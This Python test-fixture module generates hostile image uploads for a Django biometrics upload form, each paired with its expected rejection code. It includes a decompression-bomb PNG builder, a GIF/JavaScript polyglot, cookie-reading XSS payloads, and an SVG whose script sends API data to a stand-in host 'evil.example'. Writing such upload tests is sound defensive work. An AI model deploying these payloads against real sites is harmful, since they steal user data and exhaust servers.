"""Hostile files, made on the fly: each with the rejection codes an upload of it may get.

A code is the `code` of the form's ValidationError: the ImageRejected codes of
biometrics/images.py ("corrupt", "too_many_pixels", ...), Django's "empty", or the form's own
"no_face" when the file is a harmless picture with nobody in it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image


def _image(fmt: str, size=(64, 48), mode="RGB", color=(200, 120, 90), **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, color if mode != "I;16" else 40000).save(buffer, format=fmt, **save)
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int) -> bytes:
    """A well-formed PNG header announcing width x height RGB pixels, with almost no data: a
    decoder that trusted it would allocate width*height*3 bytes (7.5 GB for 50,000 squared)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 1024)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def animated_gif() -> bytes:
    frames = [Image.new("P", (40, 40), color) for color in (1, 2, 3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buffer.getvalue()


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
    return buffer.getvalue()


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
  <script>fetch('/api/v1/requests/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>
  <rect width="100" height="100" fill="red"/>
</svg>"""

# A file that is both a GIF header and a script: `GIF89a` parses as a JS identifier.
GIF_JS_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(document.domain);//\x00\x00\x00;"

HTML_PAYLOAD = b"<html><body><script>alert(document.cookie)</script></body></html>"


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    content_type: str
    data: bytes
    codes: frozenset[str]


def hostile_files() -> list[Hostile]:
    jpeg = _image("JPEG", size=(320, 240))
    png = _image("PNG", size=(320, 240))
    no_face = frozenset({"no_face"})
    corrupt = frozenset({"corrupt"})
    return [
        Hostile("corrupt JPEG", "me.jpg", "image/jpeg", jpeg[:20] + bytes(range(256)) * 8, corrupt),
        Hostile("corrupt PNG", "me.png", "image/png", png[:8] + b"\x00\x00\x00\x0dIHDRgarbage" * 50, corrupt),
        Hostile("truncated JPEG", "me.jpg", "image/jpeg", jpeg[: len(jpeg) // 2], corrupt),
        Hostile("truncated PNG", "me.png", "image/png", png[: len(png) // 2], corrupt),
        Hostile(
            "decompression bomb (PNG header claims 50,000 x 50,000)",
            "bomb.png",
            "image/png",
            png_claiming(50_000, 50_000),
            frozenset({"too_many_pixels"}),
        ),
        Hostile("1x1 pixel", "dot.png", "image/png", _image("PNG", size=(1, 1)), no_face),
        Hostile(
            "20,000 pixels wide",
            "strip.png",
            "image/png",
            _image("PNG", size=(20_000, 4), mode="L", color=0),
            frozenset({"absurd_size"}),
        ),
        Hostile("CMYK JPEG", "cmyk.jpg", "image/jpeg", _image("JPEG", mode="CMYK", color=(0, 50, 90, 10)), no_face),
        Hostile("16-bit PNG", "deep.png", "image/png", _image("PNG", mode="I;16"), no_face),
        Hostile("animated GIF", "anim.gif", "image/gif", animated_gif(), frozenset({"unsupported_format", "animated"})),
        Hostile("SVG with script", "face.svg", "image/svg+xml", SVG, frozenset({"not_an_image"})),
        Hostile("SVG named .jpg", "face.jpg", "image/jpeg", SVG, frozenset({"not_an_image"})),
        # Polyglots: the picture part decodes; what follows is dropped by the re-encoding.
        Hostile("JPEG with a ZIP appended", "me.jpg", "image/jpeg", jpeg + zip_bytes(), no_face),
        Hostile("JPEG with HTML appended", "me.jpg", "image/jpeg", jpeg + HTML_PAYLOAD, no_face),
        Hostile(
            "GIF/JavaScript polyglot",
            "me.gif",
            "image/gif",
            GIF_JS_POLYGLOT,
            frozenset({"not_an_image", "corrupt", "unsupported_format", "too_many_pixels"}),
        ),
        Hostile("HTML named .jpg", "me.jpg", "image/jpeg", HTML_PAYLOAD, frozenset({"not_an_image"})),
        Hostile("PNG named .jpg", "me.jpg", "image/jpeg", png, no_face),
        Hostile("JPEG named .exe", "me.exe", "application/octet-stream", jpeg, no_face),
        Hostile(
            "PDF named .jpg", "me.jpg", "image/jpeg", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", frozenset({"not_an_image"})
        ),
        Hostile("empty file", "me.jpg", "image/jpeg", b"", frozenset({"empty"})),
    ]
